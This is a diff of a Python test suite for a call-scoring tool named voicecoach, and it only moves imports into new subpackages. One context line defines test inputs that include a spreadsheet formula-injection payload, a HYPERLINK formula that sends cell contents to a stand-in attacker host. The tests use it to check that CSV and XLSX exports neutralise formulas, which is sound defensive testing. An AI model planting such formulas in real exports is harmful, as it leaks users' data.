@@ -35,7 +35,7 @@ def _row(key: str, **kw) -> dict:
 
 
 def _claim_all(db: str, owner: str, keys: list[str], start, out) -> None:
-    from voicecoach.store import Store
+    from voicecoach.qa.store import Store
 
     start.wait()
     store = Store(db)  # every process opens (and would create) the new store at once
@@ -59,7 +59,7 @@ def test_two_batches_on_a_new_store_share_the_calls_without_doubles(tmp_path):
 
 
 def test_a_claim_of_a_dead_batch_is_taken_over_and_a_finished_call_is_not_claimed(tmp_path):
-    from voicecoach.store import Store, owner_id
+    from voicecoach.qa.store import Store, owner_id
 
     store = Store(tmp_path / "s.sqlite")
     assert store.claim("a", "elsewhere:1")  # another host: held until its lease ends
@@ -77,7 +77,7 @@ def test_a_claim_of_a_dead_batch_is_taken_over_and_a_finished_call_is_not_claime
 
 
 def test_a_full_disk_stops_with_a_clear_message_and_keeps_the_rows(tmp_path):
-    from voicecoach.store import Store
+    from voicecoach.qa.store import Store
 
     db = tmp_path / "full.sqlite"
     store = Store(db)
@@ -110,7 +110,7 @@ HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1", 
 
 
 def _store_with_hostile_text(tmp_path):
-    from voicecoach.store import Store
+    from voicecoach.qa.store import Store
 
     store = Store(tmp_path / "r.sqlite")
     for i, text in enumerate(HOSTILE_TEXT):
@@ -120,7 +120,7 @@ def _store_with_hostile_text(tmp_path):
 
 
 def test_csv_export_neutralises_formulas(tmp_path):
-    from voicecoach.export import export
+    from voicecoach.qa.export import export
 
     export(_store_with_hostile_text(tmp_path), tmp_path / "x.csv")
     with open(tmp_path / "x.csv", encoding="utf-8-sig", newline="") as f:
@@ -138,7 +138,7 @@ def test_csv_export_neutralises_formulas(tmp_path):
 def test_xlsx_export_holds_text_never_formulas(tmp_path):
     from openpyxl import load_workbook
 
-    from voicecoach.export import export
+    from voicecoach.qa.export import export
 
     export(_store_with_hostile_text(tmp_path), tmp_path / "x.xlsx")
     ws = load_workbook(tmp_path / "x.xlsx")["calls"]
@@ -150,7 +150,7 @@ def test_xlsx_export_holds_text_never_formulas(tmp_path):
 
 
 def test_a_failed_export_leaves_no_half_file(tmp_path, monkeypatch):
-    import voicecoach.export as ex
+    import voicecoach.qa.export as ex
 
     store = _store_with_hostile_text(tmp_path)
     (tmp_path / "x.xlsx").write_bytes(b"the old export")
@@ -170,7 +170,7 @@ def test_a_failed_export_leaves_no_half_file(tmp_path, monkeypatch):
 
 
 def test_manifest_entries_stay_in_the_folders_named(tmp_path):
-    from voicecoach.batch import discover
+    from voicecoach.qa.batch import discover
 
     calls = tmp_path / "calls"
     calls.mkdir()
@@ -246,7 +246,7 @@ def test_a_valid_entry_without_checksum_from_an_older_version_is_still_used(tmp_
 
 
 def test_a_failed_cache_write_leaves_nothing_behind(tmp_path, monkeypatch):
-    import voicecoach.cache_check as cc
+    import voicecoach.recognize.cache_check as cc
 
     def fail(obj, f, **kw):
         f.write("{\"half")
@@ -259,7 +259,7 @@ def test_a_failed_cache_write_leaves_nothing_behind(tmp_path, monkeypatch):
 
 
 def test_a_model_folder_missing_a_file_fails_at_once_without_the_network(tmp_path, monkeypatch):
-    from voicecoach.models import resolve_model
+    from voicecoach.recognize.models import resolve_model
 
     monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
     folder = tmp_path / "my-model"
@@ -301,7 +301,7 @@ def test_targets_check_rejects_bad_overall_sections(tmp_path, body, message):
 
 
 def test_batch_progress_is_printed_as_lines_when_not_a_terminal(capsys):
-    from voicecoach.batch import Progress
+    from voicecoach.qa.batch import Progress
     from voicecoach.cli import _batch_progress
 
     show, stop = _batch_progress(40)  # pytest's stderr is not a terminal
@@ -441,10 +441,10 @@ def test_two_batch_commands_at_once_on_a_new_store_score_each_call_once(tmp_path
 
 
 def test_a_call_over_its_time_limit_becomes_an_error_row_and_the_worker_goes_on(tmp_path, monkeypatch):
-    import voicecoach.batch as batch
+    import voicecoach.qa.batch as batch
     from hostile.corpus import speech
     from hostile.fake import BurstRecognizer
-    from voicecoach.targets import load_targets
+    from voicecoach.judge.targets import load_targets
 
     class Slow(BurstRecognizer):  # its own cache key (the fingerprint names the class): a transcript cached by another test must not answer for it
         def recognize(self, samples, *, sample_rate_hz):
